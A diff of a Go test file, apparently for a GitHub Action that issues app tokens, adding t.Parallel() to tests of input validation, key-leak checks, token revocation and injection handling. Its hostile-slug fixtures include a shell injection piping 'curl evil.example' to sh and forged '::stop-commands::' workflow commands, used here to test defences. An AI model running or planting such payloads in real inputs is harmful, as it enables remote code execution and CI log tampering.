@@ -18,6 +18,7 @@ import (
 // and must fail the step before any call, naming it and the nearest input:
 // otherwise the token silently comes out wider than the workflow asked.
 func TestMisspeltInputsFailBeforeAnyCall(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		name string
 		with []string
@@ -48,6 +49,7 @@ func TestMisspeltInputsFailBeforeAnyCall(t *testing.T) {
 // written, with a notice, so new permissions keep working; the pre-flight
 // check still refuses one the installation was not granted.
 func TestNewPermissionsAreForwarded(t *testing.T) {
+	t.Parallel()
 	grant := func(c *githubtest.Config) { c.Installations[0].Permissions["quantum_leaps"] = "write" }
 	w := newWorld(t, grant).with("permission-quantum-leaps", "write", "permissions", "contents: read")
 	res := w.main()
@@ -71,6 +73,7 @@ func TestNewPermissionsAreForwarded(t *testing.T) {
 // A private key pasted into another input is refused without a line of it
 // in the log (the leak check scans for every line of the key).
 func TestKeyInTheWrongInputIsNotEchoed(t *testing.T) {
+	t.Parallel()
 	for _, input := range []string{"permissions", "repositories", "owner", "client-id"} {
 		t.Run(input, func(t *testing.T) {
 			w := newWorld(t).with(input, appPEM)
@@ -86,6 +89,7 @@ func TestKeyInTheWrongInputIsNotEchoed(t *testing.T) {
 // If the token cannot be saved for the post phase, nothing would revoke it:
 // it is revoked at once and the step fails.
 func TestUnsavedTokenIsRevoked(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	w.step.Env["GITHUB_STATE"] = filepath.Join(t.TempDir(), "missing", "state")
 	res := w.main()
@@ -114,6 +118,7 @@ func hostileInstallation(slug string) githubtest.Fault {
 // a slug with a line break or shell syntax leaves the identity outputs
 // empty, with a warning, and forges nothing.
 func TestHostileSlugIsNotPassedOn(t *testing.T) {
+	t.Parallel()
 	for _, slug := range []string{
 		"release-bot\n::stop-commands::INJECTED",
 		"bot'; curl evil.example | sh; echo '",
@@ -157,6 +162,7 @@ func mintAnswer(t *testing.T, answer map[string]any) githubtest.Fault {
 // not shown: the permissions output stays empty, with a warning, and no
 // workflow command is forged.
 func TestHostilePermissionNamesAreNotShown(t *testing.T) {
+	t.Parallel()
 	w := newWorld(t)
 	w.emu.AddFault(mintAnswer(t, map[string]any{
 		"permissions":          map[string]string{"contents\n::error::INJECTED": "write", "issues": "read\n::stop-commands::INJECTED"},
@@ -183,6 +189,7 @@ func TestHostilePermissionNamesAreNotShown(t *testing.T) {
 // account) is revoked at once and the step fails: the log never claims a
 // scope the token does not have.
 func TestWiderAnswerIsRevoked(t *testing.T) {
+	t.Parallel()
 	tests := []struct {
 		name   string
 		answer map[string]any
